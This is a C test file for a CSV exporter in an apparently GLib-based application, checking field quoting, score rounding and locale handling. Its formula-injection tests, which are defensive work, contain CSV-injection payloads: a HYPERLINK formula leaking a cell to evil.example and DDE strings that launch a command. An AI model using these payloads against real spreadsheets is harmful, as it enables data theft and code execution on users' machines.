/* test-csv.c
 *
 * Copyright 2026 The Two Hats authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <locale.h>
#include <string.h>

#include "th-csv.h"
#include "th-test-session.h"
#include "th-test-utils.h"

static void
assert_csv_equals_fixture (GBytes *csv, const char *name)
{
  g_autoptr (GBytes) expected = th_test_fixture_bytes (name);

  g_assert_cmpmem (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv),
                   g_bytes_get_data (expected, NULL), g_bytes_get_size (expected));
}

/* A strict RFC 4180 reader, independent of the writer, to check that
 * what we write reads back as the same fields. */
static GPtrArray *
parse_csv (GBytes *bytes)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify)g_ptr_array_unref);
  gsize length;
  const char *data = g_bytes_get_data (bytes, &length);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *field = g_string_new (NULL);
  gsize i = 0;

  while (i < length)
    {
      if (data[i] == '"')
        {
          i++;
          for (;;)
            {
              g_assert_cmpuint (i, <, length);
              if (data[i] == '"' && i + 1 < length && data[i + 1] == '"')
                {
                  g_string_append_c (field, '"');
                  i += 2;
                }
              else if (data[i] == '"')
                {
                  i++;
                  break;
                }
              else
                {
                  g_string_append_c (field, data[i++]);
                }
            }
        }
      else
        {
          while (i < length && data[i] != ',' && data[i] != '\n')
            {
              /* Unquoted fields never hold quotes or carriage returns. */
              g_assert_cmpint (data[i], !=, '"');
              g_assert_cmpint (data[i], !=, '\r');
              g_string_append_c (field, data[i++]);
            }
        }

      g_assert_cmpuint (i, <, length);
      g_ptr_array_add (row, g_strdup (field->str));
      g_string_truncate (field, 0);

      if (data[i] == '\n')
        {
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
        }
      else
        {
          g_assert_cmpint (data[i], ==, ',');
        }
      i++;
    }

  g_assert_cmpuint (row->len, ==, 0);
  g_ptr_array_unref (row);
  g_string_free (field, TRUE);
  return rows;
}

static void
test_fixture (void)
{
  g_autoptr (ThSession) session = th_test_load_session_fixture ("session-valid.twohats");
  g_autoptr (GBytes) csv = th_session_to_csv (session, FALSE);
  g_autoptr (GBytes) anonymous = th_session_to_csv (session, TRUE);

  assert_csv_equals_fixture (csv, "session-valid.csv");
  assert_csv_equals_fixture (anonymous, "session-valid-anonymous.csv");
}

/* Names survive the trip through CSV, whatever they hold. */
static void
test_names_read_back (void)
{
  g_autoptr (ThSession) session = th_test_load_session_fixture ("session-valid.twohats");
  const char *names[] = { "Plain",     "Lee, Jordan", "Sam \"The Hammer\" Ortiz",
                          "\"\"",      ",",           "Zoë 🎩 Fischer",
                          "نور الهدى", "דנה לוי",     "a,\"b\",c" };
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) rows = NULL;
  g_autoptr (GError) error = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    th_session_add_participant (session, names[i], &error);
  g_assert_no_error (error);

  csv = th_session_to_csv (session, FALSE);
  rows = parse_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1 + th_session_get_n_participants (session));

  for (guint i = 0; i < rows->len; i++)
    {
      GPtrArray *row = g_ptr_array_index (rows, i);

      g_assert_cmpuint (row->len, ==, 7);
      if (i == 0)
        continue;
      g_assert_cmpstr (g_ptr_array_index (row, 0), ==,
                       th_participant_get_id (th_session_get_participant (session, i - 1)));
      g_assert_cmpstr (g_ptr_array_index (row, 1), ==,
                       th_participant_get_name (th_session_get_participant (session, i - 1)));
    }
}

static void
test_quote_field (void)
{
  const struct
  {
    const char *field;
    const char *expected;
  } cases[] = {
    { "Ana", "Ana" },
    { "", "" },
    { "Lee, Jordan", "\"Lee, Jordan\"" },
    { "Sam \"The Hammer\"", "\"Sam \"\"The Hammer\"\"\"" },
    { "two\nlines", "\"two\nlines\"" },
    { "carriage\rreturn", "\"carriage\rreturn\"" },
    { "crlf\r\n", "\"crlf\r\n\"" },
    { "\"", "\"\"\"\"" },
    { "Zoë 🎩", "Zoë 🎩" },
    { "نور الهدى", "نور الهدى" },
    { "דנה, לוי", "\"דנה, לוי\"" },
    { "semi;colon\ttab", "semi;colon\ttab" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *quoted = th_csv_quote_field (cases[i].field);

      g_assert_cmpstr (quoted, ==, cases[i].expected);
    }
}

/* docs/csv.md, "Spreadsheet formulas are neutralised": the scores CSV of
 * a session with one participant named @name, written out in full. */
static void
assert_name_written_as (const char *name, const char *expected_line)
{
  g_autoptr (ThDeck) deck = th_deck_new_builtin ();
  g_autoptr (ThSession) session = th_session_new (deck);
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GError) error = NULL;
  g_autofree char *expected = NULL;

  g_assert_nonnull (th_session_add_participant (session, name, &error));
  g_assert_no_error (error);
  csv = th_session_to_csv (session, FALSE);
  expected = g_strconcat ("id,name,leadership,management,quadrant,sorted,correct\n", expected_line,
                          "\n", NULL);
  g_assert_cmpmem (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv), expected,
                   strlen (expected));
}

static void
test_formula_equals (void)
{
  /* The name that would send the cell beside it to another site. */
  assert_name_written_as ("=HYPERLINK(\"http://evil.example/?leak=\"&B3,\"Click\")",
                          "p1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B3,\"\"Click\"\")\","
                          ",,,0,0");
  assert_name_written_as ("=1+1", "p1,'=1+1,,,,0,0");
}

static void
test_formula_plus (void)
{
  assert_name_written_as ("+cmd|' /C calc'!A0", "p1,'+cmd|' /C calc'!A0,,,,0,0");
  assert_name_written_as ("+44 20 7946 0000", "p1,'+44 20 7946 0000,,,,0,0");
}

static void
test_formula_minus (void)
{
  assert_name_written_as ("-ana-", "p1,'-ana-,,,,0,0");
  assert_name_written_as ("-2+3+cmd|' /C calc'!A0", "p1,'-2+3+cmd|' /C calc'!A0,,,,0,0");
}

/* A name that reads as a negative number gets its apostrophe too: the
 * rule looks at the first character only, as docs/csv.md says. */
static void
test_formula_negative_number (void)
{
  assert_name_written_as ("-5", "p1,'-5,,,,0,0");
}

static void
test_formula_at (void)
{
  assert_name_written_as ("@SUM(1+1)*cmd|' /C calc'!A0", "p1,'@SUM(1+1)*cmd|' /C calc'!A0,,,,0,0");
  assert_name_written_as ("@ana", "p1,'@ana,,,,0,0");
}

/* Names cannot hold a tab or a carriage return (docs/session-format.md),
 * so these two are checked on a field by itself; the rule is the same for
 * every field. */
static void
test_formula_tab (void)
{
  g_autofree char *quoted = th_csv_quote_field ("\t=1+1");

  g_assert_cmpstr (quoted, ==, "'\t=1+1");
}

static void
test_formula_carriage_return (void)
{
  g_autofree char *quoted = th_csv_quote_field ("\r=1+1");

  /* The apostrophe goes in first, then the field is quoted for its CR. */
  g_assert_cmpstr (quoted, ==, "\"'\r=1+1\"");
}

/* Quoting applies to the field with its apostrophe, and only the first
 * character counts. */
static void
test_formula_quoted_and_inner (void)
{
  const struct
  {
    const char *field;
    const char *expected;
  } cases[] = {
    { "=SUM(A1, A2)", "\"'=SUM(A1, A2)\"" },
    { "@\"x\"", "\"'@\"\"x\"\"\"" },
    { "Ana=Bob", "Ana=Bob" },
    { "Ana-Maria", "Ana-Maria" },
    { " =1+1", " =1+1" },
    { "'=1+1", "'=1+1" },
    { "", "" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *quoted = th_csv_quote_field (cases[i].field);

      g_assert_cmpstr (quoted, ==, cases[i].expected);
    }
}

static gboolean
is_score_field (const char *field)
{
  gsize length = strlen (field);

  /* Empty, or digits, a dot and exactly one digit: never a comma. */
  if (length == 0)
    return TRUE;
  if (length < 3 || field[length - 2] != '.' || !g_ascii_isdigit (field[length - 1]))
    return FALSE;
  for (gsize i = 0; i < length - 2; i++)
    if (!g_ascii_isdigit (field[i]))
      return FALSE;
  return TRUE;
}

static void
assert_scores_well_formed (ThSession *session)
{
  g_autoptr (GBytes) csv = th_session_to_csv (session, FALSE);
  g_autoptr (GPtrArray) rows = parse_csv (csv);

  for (guint i = 1; i < rows->len; i++)
    {
      GPtrArray *row = g_ptr_array_index (rows, i);

      g_assert_cmpuint (row->len, ==, 7);
      if (!is_score_field (g_ptr_array_index (row, 2))
          || !is_score_field (g_ptr_array_index (row, 3)))
        g_error ("badly formed scores in row %u: “%s”, “%s”", i, (char *)g_ptr_array_index (row, 2),
                 (char *)g_ptr_array_index (row, 3));
    }
}

/* Rounding to one decimal, checked on scores that need it. */
static void
test_decimals (void)
{
  g_autoptr (ThDeck) deck = th_deck_new_builtin ();
  g_autoptr (ThSession) session = th_session_new (deck);
  g_autoptr (GError) error = NULL;
  g_autoptr (GBytes) csv = NULL;
  g_autoptr (GPtrArray) rows = NULL;
  ThParticipant *participant = th_session_add_participant (session, "Ana", &error);
  const int leadership[] = { 4, 4, 3 }; /* 66.666… */
  const int management[] = { 2, 1, 1 }; /* 8.333… */
  guint n_leadership = 0, n_management = 0;
  GPtrArray *row;

  for (guint i = 0; i < th_deck_get_n_behaviours (deck); i++)
    {
      ThBehaviour *behaviour = th_deck_get_behaviour (deck, i);
      const char *id = th_behaviour_get_id (behaviour);

      if (th_behaviour_get_key (behaviour) == TH_SIDE_LEADERSHIP && n_leadership < 3)
        th_participant_set_rating (participant, id, leadership[n_leadership++]);
      else if (th_behaviour_get_key (behaviour) == TH_SIDE_MANAGEMENT && n_management < 3)
        th_participant_set_rating (participant, id, management[n_management++]);
    }

  csv = th_session_to_csv (session, FALSE);
  rows = parse_csv (csv);
  row = g_ptr_array_index (rows, 1);
  g_assert_cmpstr (g_ptr_array_index (row, 2), ==, "66.7");
  g_assert_cmpstr (g_ptr_array_index (row, 3), ==, "8.3");
  g_assert_cmpstr (g_ptr_array_index (row, 4), ==, "leadership-driven");
  g_assert_cmpstr (g_ptr_array_index (row, 5), ==, "0");

  assert_scores_well_formed (session);
}

static void
test_empty_session (void)
{
  g_autoptr (ThDeck) deck = th_deck_new_builtin ();
  g_autoptr (ThSession) session = th_session_new (deck);
  g_autoptr (GBytes) csv = th_session_to_csv (session, TRUE);

  g_assert_cmpmem (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv),
                   "id,name,leadership,management,quadrant,sorted,correct\n", 54);
}

/* Under a locale whose decimal separator is a comma, the numbers keep their
 * dot.  Only runs where such a locale is installed. */
static void
test_comma_locale (void)
{
  const char *candidates[] = { "de_DE.UTF-8", "de_DE.utf8",  "fr_FR.UTF-8", "fr_FR.utf8",
                               "nl_NL.UTF-8", "ru_RU.UTF-8", "es_ES.UTF-8", "it_IT.UTF-8" };
  g_autofree char *saved = g_strdup (setlocale (LC_NUMERIC, NULL));
  const char *found = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (candidates) && found == NULL; i++)
    if (setlocale (LC_NUMERIC, candidates[i]) != NULL)
      {
        if (strcmp (localeconv ()->decimal_point, ",") == 0)
          found = candidates[i];
      }

  if (found == NULL)
    {
      setlocale (LC_NUMERIC, saved);
      g_test_skip ("no locale with a decimal comma is installed");
      return;
    }

  {
    g_autoptr (ThSession) session = th_test_load_session_fixture ("session-valid.twohats");
    g_autoptr (GBytes) csv = th_session_to_csv (session, FALSE);
    g_autofree char *printed = g_strdup_printf ("%.1f", 87.5);

    /* The locale really is in effect... */
    g_assert_cmpstr (printed, ==, "87,5");
    /* ...and the CSV does not care. */
    assert_csv_equals_fixture (csv, "session-valid.csv");
  }

  setlocale (LC_NUMERIC, saved);
}

/* Every score a participant can have (up to 1 000 rated cards on a side),
 * and a spread of others, reads as printf's "%.1f" writes it: halves of
 * a tenth round to even in the exact binary value, so 0.25 is "0.2" and
 * 0.35 (a little under, in binary) "0.3". */
static void
test_score_format (void)
{
  GString *out = g_string_new (NULL);
  g_autoptr (GRand) rand = g_rand_new_with_seed (4);
  char expected[G_ASCII_DTOSTR_BUF_SIZE];

  for (guint n = 1; n <= 1000; n++)
    for (guint k = 0; k <= 4 * n; k++)
      {
        double value = 100.0 * k / (4.0 * n);

        g_string_truncate (out, 0);
        th_csv_append_score (out, value);
        g_ascii_formatd (expected, sizeof expected, "%.1f", value);
        if (strcmp (out->str, expected) != 0)
          g_error ("%.17g: %s, not %s", value, out->str, expected);
      }

  for (guint i = 0; i < 200000; i++)
    {
      double value = i < 2000 ? i / 20.0
                                  + (i % 3 == 0   ? 1e-13
                                     : i % 3 == 1 ? -1e-13
                                                  : 0)
                              : g_rand_double_range (rand, 0, 100);

      if (value < 0)
        value = 0;
      g_string_truncate (out, 0);
      th_csv_append_score (out, value);
      g_ascii_formatd (expected, sizeof expected, "%.1f", value);
      if (strcmp (out->str, expected) != 0)
        g_error ("%.17g: %s, not %s", value, out->str, expected);
    }

  g_string_free (out, TRUE);
}

/* Removing participant 1 of 3 leaves the others their numbers: an
 * anonymous CSV printed before still means the same people. */
static void
test_anonymous_numbers_after_removal (void)
{
  g_autoptr (ThDeck) deck = th_deck_new_builtin ();
  g_autoptr (ThSession) session = th_session_new (deck);
  g_autoptr (GBytes) before = NULL;
  g_autoptr (GBytes) after = NULL;
  char *text;

  th_session_add_participant (session, "Ana", NULL);
  th_session_add_participant (session, "Ben", NULL);
  th_session_add_participant (session, "Cy", NULL);
  before = th_session_to_csv (session, TRUE);
  text = g_strndup (g_bytes_get_data (before, NULL), g_bytes_get_size (before));
  g_assert_cmpstr (text, ==,
                   "id,name,leadership,management,quadrant,sorted,correct\n"
                   "p1,Participant 1,,,,0,0\n"
                   "p2,Participant 2,,,,0,0\n"
                   "p3,Participant 3,,,,0,0\n");
  g_free (text);

  g_assert_true (th_session_remove_participant (session, "p1"));
  after = th_session_to_csv (session, TRUE);
  text = g_strndup (g_bytes_get_data (after, NULL), g_bytes_get_size (after));
  g_assert_cmpstr (text, ==,
                   "id,name,leadership,management,quadrant,sorted,correct\n"
                   "p2,Participant 2,,,,0,0\n"
                   "p3,Participant 3,,,,0,0\n");
  g_free (text);
}

int
main (int argc, char *argv[])
{
  setlocale (LC_ALL, "");
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/fixture", test_fixture);
  g_test_add_func ("/csv/anonymous-numbers-after-removal", test_anonymous_numbers_after_removal);
  g_test_add_func ("/csv/names-read-back", test_names_read_back);
  g_test_add_func ("/csv/quote-field", test_quote_field);
  g_test_add_func ("/csv/formula/equals", test_formula_equals);
  g_test_add_func ("/csv/formula/plus", test_formula_plus);
  g_test_add_func ("/csv/formula/minus", test_formula_minus);
  g_test_add_func ("/csv/formula/negative-number", test_formula_negative_number);
  g_test_add_func ("/csv/formula/at", test_formula_at);
  g_test_add_func ("/csv/formula/tab", test_formula_tab);
  g_test_add_func ("/csv/formula/carriage-return", test_formula_carriage_return);
  g_test_add_func ("/csv/formula/quoted-and-inner", test_formula_quoted_and_inner);
  g_test_add_func ("/csv/decimals", test_decimals);
  g_test_add_func ("/csv/empty-session", test_empty_session);
  g_test_add_func ("/csv/comma-locale", test_comma_locale);

  g_test_add_func ("/csv/score-format", test_score_format);

  return g_test_run ();
}
